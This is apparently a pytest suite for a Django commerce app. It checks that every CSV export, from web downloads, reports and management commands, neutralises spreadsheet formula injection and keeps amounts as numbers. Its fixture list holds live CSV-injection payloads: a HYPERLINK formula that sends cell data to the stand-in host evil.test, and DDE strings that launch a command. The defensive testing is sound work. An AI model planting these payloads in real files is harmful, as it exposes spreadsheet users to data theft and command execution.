"""CSV formula injection (OWASP): every export of the hub, downloaded from its page and
run as a command, with hostile text in every text field, writes no cell a spreadsheet
would run as a formula, while amounts stay numbers (a negative net too).

A new export is caught three ways: no module but `commerce/csv.py` may import the
standard library's `csv`; every module that writes through `commerce.csv` must be walked
here (`WRITER_MODULES`); every URL named `export…`, every `?download=` figure of the
reports and every `export_*` command must be in `UI_EXPORTS` / `COMMAND_EXPORTS`."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command, get_commands
from django.urls import URLPattern, URLResolver, get_resolver

from commerce.csv import is_formula_like, neutralise, unneutralise
from invoices import services as invoice_services
from invoices.models import InvoiceSettings
from payments.models import Payment
from reports.views import FIGURES
from tests.factories import CheckoutFactory, ContactFactory, PaymentFactory, ProductFactory
from tests.support import line

ROOT = Path(__file__).resolve().parents[2]
APPS = (
    "commerce",
    "payments",
    "quotes",
    "invoices",
    "subscriptions",
    "reports",
    "accounting",
    "demo",
    "api",
)

# Every way a spreadsheet may be tricked: the characters OWASP lists, after spaces too,
# and the full-width forms some spreadsheets accept.
HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]

# (name, URL, query) of every download a person can click.
UI_EXPORTS: list[tuple[str, str, dict[str, str]]] = [
    ("products", "/products/export.csv", {}),
    ("invoices", "/invoices/export/invoices.csv", {}),
    ("invoice payments", "/invoices/export/payments.csv", {}),
    ("quickbooks invoices", "/accounting/export/quickbooks-invoices", {}),
    ("quickbooks payments", "/accounting/export/quickbooks-payments", {}),
    ("xero invoices", "/accounting/export/xero-invoices", {}),
    *[
        (f"report {figure}", "/reports/", {"download": figure, "start": "2026-01-01", "end": "2026-03-31"})
        for figure in FIGURES
    ],
]  # fmt: skip
COMMAND_EXPORTS = [
    "export_products",
    "export_invoices",
    "export_invoice_payments",
    "export_quickbooks_invoices",
    "export_quickbooks_payments",
    "export_xero_invoices",
]
# Modules that write CSV through commerce.csv, and the exports above that walk them.
WRITER_MODULES = {
    "commerce/catalog/csv_io.py": ["products", "export_products"],
    "invoices/csv_io.py": [
        "invoices",
        "invoice payments",
        "export_invoices",
        "export_invoice_payments",
    ],
    "reports/views.py": [f"report {figure}" for figure in FIGURES],
    "accounting/exports.py": [
        "quickbooks invoices",
        "quickbooks payments",
        "xero invoices",
        "export_quickbooks_invoices",
        "export_quickbooks_payments",
        "export_xero_invoices",
    ],
}
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


# --- The writer ------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "'=1", "'plain", "-", "=", "\u2212 5"])
def test_neutralise_makes_text_safe_and_unneutralise_gives_it_back(text):
    safe = neutralise(text)
    assert safe.startswith("'")
    assert unneutralise(safe) == text


@pytest.mark.parametrize("text", ["", "Acme Ltd", "a=b", "ada@example.org", "2026-04-05", "12.50"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text and unneutralise(text) == text


# --- The guard ---------------------------------------------------------------------------


def _modules():
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path.relative_to(ROOT).as_posix(), ast.parse(path.read_text())


def test_only_the_core_module_uses_the_standard_csv_module():
    offenders = []
    for name, tree in _modules():
        if name == "commerce/csv.py":
            continue
        for node in ast.walk(tree):
            imported = (
                [a.name for a in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom) and node.level == 0
                else []
            )
            if set(imported) & {"csv", "_csv"}:
                offenders.append(name)
    assert offenders == [], f"write CSV through commerce.csv instead: {offenders}"


def test_every_module_writing_csv_is_walked_by_this_test():
    writers = set()
    for name, tree in _modules():
        if name == "commerce/csv.py":
            continue
        used = {
            n.id if isinstance(n, ast.Name) else n.attr
            for n in ast.walk(tree)
            if isinstance(n, ast.Name | ast.Attribute)
        }
        if used & {"CsvWriter", "CsvDictWriter"}:
            writers.add(name)
    assert writers == set(WRITER_MODULES)
    walked = {name for name, _, _ in UI_EXPORTS} | set(COMMAND_EXPORTS)
    for exports in WRITER_MODULES.values():
        assert set(exports) <= walked


def _url_names(resolver: URLResolver, prefix: str = ""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _url_names(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield entry.name or "", prefix + str(entry.pattern)


def test_every_export_url_and_command_is_walked():
    export_urls = {
        "/" + route
        for name, route in _url_names(get_resolver())
        if "export" in name and not route.startswith("admin/")
    }
    assert export_urls == {url for _, url, query in UI_EXPORTS if not query}
    commands = {
        name
        for name, app in get_commands().items()
        if name.startswith("export_") and app != "ninja"  # ninja's is its OpenAPI document
    }
    assert commands == set(COMMAND_EXPORTS)


# --- Every export, with hostile values -----------------------------------------------------


@pytest.fixture
def hostile_books(portal):
    """Hostile text in every text field an export writes: contacts, the invoice prefix,
    payment references, products and the sold lines the reports name."""
    InvoiceSettings.objects.update_or_create(portal=portal, defaults={"prefix": "-INV"})
    for i, text in enumerate(HOSTILE):
        ProductFactory(portal=portal, name=text, sku=text[:40], description=text)
        contact = ContactFactory(
            portal=portal,
            first_name=text,
            last_name=text,
            company=text,
            email=f"-{i}+1@example.org" if i % 2 else f"={i}+1@example.org",
        )
        invoice = invoice_services.invoice_create(
            portal=portal,
            actor=None,
            contact=contact,
            issue_date=invoice_services.portal_today(portal),
            lines=[line(name=text)],
        )
        invoice = invoice_services.invoice_finalize(invoice=invoice, actor=None)
        invoice_services.invoice_record_payment(
            invoice=invoice,
            actor=None,
            method="cheque",
            amount=100,
            paid_on=invoice.issue_date,
            reference=text,
        )
        lines = [
            {"name": text, "sku": text[:40], "quantity": 1, "unit_amount": 1_000, "total": 1_000}
        ]
        checkout = CheckoutFactory(
            portal=portal, amount=1_000, order={"lines": lines, "total": 1_000}
        )
        PaymentFactory(
            portal=portal,
            checkout=checkout,
            amount=1_000,
            fee=330,
            refunded_amount=1_000,  # refunded in full: the net is negative
            net=-330,
            stripe_refunded=1_000,
            status=Payment.Status.REFUNDED,
            stripe_account_id="acct_csv",
            paid_at=datetime(2026, 2, 10, 12, tzinfo=UTC),
        )  # fmt: skip


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(name: str, rows: list[list[str]]) -> None:
    assert len(rows) > 1, f"{name}: no rows"
    for row in rows:
        for value in row:
            assert not is_formula_like(value) or _NUMBER.fullmatch(value), (
                f"{name}: the cell {value!r} would run as a formula"
            )


def _export_output(admin_client_, name: str) -> str:
    [(url, query)] = [(url, query) for label, url, query in UI_EXPORTS if label == name]
    response = admin_client_.get(url, query)
    assert response.status_code == 200, name
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", [label for label, _, _ in UI_EXPORTS] + COMMAND_EXPORTS
)  # fmt: skip
def test_no_export_writes_a_formula(admin_client_, portal, hostile_books, name):
    if name in COMMAND_EXPORTS:
        out = io.StringIO()
        call_command(name, portal=str(portal.pk), stdout=out, stderr=io.StringIO())
        text = out.getvalue()
    else:
        text = _export_output(admin_client_, name)
    rows = _cells(text)
    _assert_safe(name, rows)
    # the hostile values did reach the file, neutralised, as text a spreadsheet shows
    written = {value for row in rows for value in row}
    if name not in ("report monthly", "report sources", "report mrr", "report recovery"):
        assert neutralise(HOSTILE[0]) in written or neutralise(HOSTILE[0][:40]) in written, name
        assert neutralise("-2+3") in written, name


@pytest.mark.django_db
def test_amounts_stay_numbers_even_when_negative(admin_client_, hostile_books):
    rows = _cells(_export_output(admin_client_, "report monthly"))
    february = next(row for row in rows if row[0] == "2026-02")
    header = rows[0]
    assert Decimal(february[header.index("net")]) == Decimal("-26.40")  # 8 x -3.30
    assert february[header.index("net")] == "-26.40"


@pytest.mark.django_db
def test_invoice_export_neutralises_a_number_from_a_dash_prefix(admin_client_, hostile_books):
    rows = list(csv.DictReader(io.StringIO(_export_output(admin_client_, "invoices"))))
    assert rows[0]["number"] == "'-INV0001"
    assert rows[0]["total"].replace(".", "").isdigit()
    assert dt.date.fromisoformat(rows[0]["issue_date"])
